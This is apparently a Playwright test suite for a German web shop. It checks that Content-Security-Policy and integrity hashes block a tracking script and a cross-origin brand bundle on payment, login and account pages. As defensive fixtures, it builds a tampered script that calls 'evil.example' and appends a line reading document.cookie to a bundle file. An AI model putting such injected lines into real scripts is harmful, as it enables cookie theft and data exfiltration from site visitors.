import { createHash } from 'node:crypto'
import { appendFile, readdir } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { freePort } from '../scripts/free-port.mjs'
import { startBuiltServer } from '../scripts/server-process.mjs'
import { ApplicationDriver } from './support/api.ts'
import { exampleBrand, script, type Address } from './support/brand.ts'
import { startLiveServer } from './support/live.ts'
import { onScreen } from './support/questionnaire.ts'
import { expect, test } from './support/test.ts'

test.use({ locale: 'de-DE' })

const COUNTING = 'globalThis.counted = (globalThis.counted ?? 0) + 1'
const hashOf = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`
const counts = (page: Page) => page.evaluate(() => (globalThis as unknown as { counted?: number }).counted ?? 0)
const policyOf = async (page: Page, url: string) =>
  (await page.request.get(url)).headers()['content-security-policy'] ?? ''
const scriptSources = (policy: string) => /script-src ([^;]*)/.exec(policy)?.[1] ?? ''

const SENSITIVE = [
  '/de/payment',
  '/en/office',
  '/de/account',
  '/de/login',
  '/de/landlord/policy/abc',
  '/de/withdraw',
  '/partner/login',
]

test.describe('a tracking script', () => {
  let counter: Address
  let live: Awaited<ReturnType<typeof startLiveServer>>
  test.describe.configure({ mode: 'serial' })
  test.beforeAll(async () => {
    counter = await script(await freePort(), COUNTING)
    live = await startLiveServer({
      TRACKING_SCRIPT_URL: `${counter.url}/count.js`,
      TRACKING_SCRIPT_INTEGRITY: hashOf(COUNTING),
    })
  })
  test.afterAll(async () => {
    await live.stop()
    await counter.close()
  })

  test('does not stay loaded from an open page to the payment', async ({ page }) => {
    const driver = await ApplicationDriver.start(live.url)
    await driver.checked()
    await page.context().addCookies([{ name: 'token', value: driver.token, url: live.url }])
    await page.addInitScript(() =>
      localStorage.setItem('consent', JSON.stringify({ consent: 'granted', at: Date.now() })),
    )
    await page.goto(`${live.url}/de/offers`)
    await onScreen(page, 'offers')
    await expect.poll(() => counts(page)).toBe(1)
    await page.evaluate(() => Object.assign(globalThis, { sameDocument: true }))
    await page.locator('.stage button[type="submit"]').click()
    await onScreen(page, 'payment')
    expect(await page.evaluate(() => 'sameDocument' in globalThis)).toBe(false)
    await page.waitForLoadState('networkidle')
    expect(await counts(page)).toBe(0)
    await expect(page.locator('script[data-tracking]')).toHaveCount(0)
  })

  test('is blocked on pages about money, accounts or work', async ({ page }) => {
    expect(scriptSources(await policyOf(page, `${live.url}/de/help`))).toContain(counter.url)
    for (const path of SENSITIVE) expect(await policyOf(page, live.url + path), path).not.toContain(counter.url)
  })

  test('does not run if it no longer matches its hash', async ({ page, complaints }) => {
    complaints.expect(/integrity/)
    const other = await script(await freePort(), `${COUNTING}; fetch('https://evil.example')`)
    const server = await startLiveServer({
      TRACKING_SCRIPT_URL: `${other.url}/count.js`,
      TRACKING_SCRIPT_INTEGRITY: hashOf(COUNTING),
    })
    try {
      await page.addInitScript(() =>
        localStorage.setItem('consent', JSON.stringify({ consent: 'granted', at: Date.now() })),
      )
      const asked = page.waitForResponse(`${other.url}/count.js`)
      await page.goto(`${server.url}/de/help`)
      await (await asked).finished()
      await page.waitForLoadState('networkidle')
      expect(await counts(page)).toBe(0)
    } finally {
      await server.stop()
      await other.close()
    }
  })
})

test.describe('a brand of another origin', () => {
  const LOGO = '.bar-logo svg[data-brand="hausfink"]'
  const PICTURE = '.bar-logo img[alt="Hausfink"]:visible'
  let hausfink: Awaited<ReturnType<typeof exampleBrand>>
  let shop: Awaited<ReturnType<typeof startBuiltServer>>
  test.describe.configure({ mode: 'serial' })
  test.beforeAll(async () => {
    hausfink = await exampleBrand()
    shop = await startBuiltServer({ DESIGN_SYSTEM_URL: hausfink.url, DESIGN_SYSTEM_INTEGRITY: hausfink.integrity })
  })
  test.afterAll(async () => {
    await shop.stop()
    await hausfink.close()
  })

  const action = (page: Page) =>
    page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--c-action'))
  const loaded = (page: Page) => {
    const urls: string[] = []
    page.on(
      'request',
      (request) => void (request.url().startsWith(hausfink.url) && urls.push(new URL(request.url()).pathname)),
    )
    return urls
  }

  test('runs as code with integrity hashes on open pages', async ({ page }) => {
    const urls = loaded(page)
    await page.goto(`${shop.url}/de`)
    await expect(page.locator(LOGO)).toBeVisible()
    await expect.poll(() => action(page)).toBe('#8B1E4F')
    expect(urls).toContain('/assets/remoteEntry.js')
  })

  test('is read as data on pages about money, accounts or work, where its code is blocked', async ({ page }) => {
    const urls = loaded(page)
    await page.goto(`${shop.url}/de/login`)
    await onScreen(page, 'login')
    await expect(page.locator(PICTURE)).toBeVisible()
    expect(await page.locator(PICTURE).evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0)
    await expect.poll(() => action(page)).toBe('#8B1E4F')
    expect(await page.evaluate(async () => (await document.fonts.load('16px "Hausfink Text"')).length)).toBeGreaterThan(
      0,
    )
    expect(urls).toContain('/assets/brand.json')
    expect(urls.filter((path) => path.endsWith('.js'))).toEqual([])
    for (const path of SENSITIVE) expect(scriptSources(await policyOf(page, shop.url + path)), path).toBe("'self'")
    if (process.env['LOOK']) await page.screenshot({ path: `${process.env['LOOK']}/brand-login.png` })
  })

  test('does not keep its code loaded on the way to such a page', async ({ page }) => {
    await page.goto(`${shop.url}/de/help`)
    await onScreen(page, 'help')
    await expect(page.locator(LOGO)).toBeVisible()
    await page.evaluate(() => Object.assign(globalThis, { sameDocument: true }))
    await page.locator('a[href$="/login"], a[href$="/withdraw"]').first().click()
    await page.waitForURL(/\/(login|withdraw)/)
    await expect(page.locator(PICTURE)).toBeVisible()
    expect(await page.evaluate(() => 'sameDocument' in globalThis)).toBe(false)
  })

  // The last two tests change the brand's files.
  test('falls back to the built-in look if its code no longer matches its hash', async ({ page, complaints }) => {
    complaints.expect(/integrity|Failed to load/)
    const part = (await readdir(join(hausfink.folder, 'assets'))).find((name) => name.startsWith('jsx-runtime')) ?? ''
    await appendFile(join(hausfink.folder, 'assets', part), '\nglobalThis.taken = document.cookie')
    await page.goto(`${shop.url}/de`)
    await onScreen(page, 'index')
    await expect(page.locator('html')).not.toHaveAttribute('data-brand')
    await expect(page.locator(LOGO)).toHaveCount(0)
    expect(await page.evaluate(() => 'taken' in globalThis)).toBe(false)
  })

  test('falls back to the built-in look if its data no longer match their hash', async ({ page, complaints }) => {
    complaints.expect(/integrity|Failed to load/)
    await appendFile(join(hausfink.folder, 'assets/brand.json'), ' ')
    await page.goto(`${shop.url}/de/login`)
    await onScreen(page, 'login')
    await expect(page.locator('html')).not.toHaveAttribute('data-brand')
    await expect(page.locator(PICTURE)).toHaveCount(0)
  })
})
